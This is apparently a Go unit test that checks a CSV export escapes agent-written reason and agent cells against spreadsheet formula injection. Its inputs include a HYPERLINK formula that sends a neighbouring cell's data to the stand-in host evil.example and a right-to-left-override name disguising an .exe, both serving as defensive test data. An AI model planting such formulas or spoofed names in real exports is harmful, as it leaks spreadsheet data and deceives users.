package store

import (
	"testing"
)

// Agents write reasons, arguments and ids; a CSV export must never hand a
// spreadsheet a formula (SPEC §6).
func TestCSVCellsNeverStartAFormula(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("https://evil.example/?x="&A2,"open details")`, `'=HYPERLINK("https://evil.example/?x="&A2,"open details")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", `\u000d=1`}, // a carriage return is shown, not kept
		{"x\u202egpj.exe", `x\u202egpj.exe`},
		{"plain reason", "plain reason"},
		{"a=b", "a=b"}, // a formula later in the text is kept
		{"", ""},
	} {
		row := Row{Reason: tc.in, Agent: tc.in}
		cells := CSVRecord(row)
		for i, c := range cells {
			if i == 4 || i == 14 { // agent, reason
				if c != tc.want {
					t.Errorf("cell %d of %q is %q, want %q", i, tc.in, c, tc.want)
				}
			}
		}
	}
}
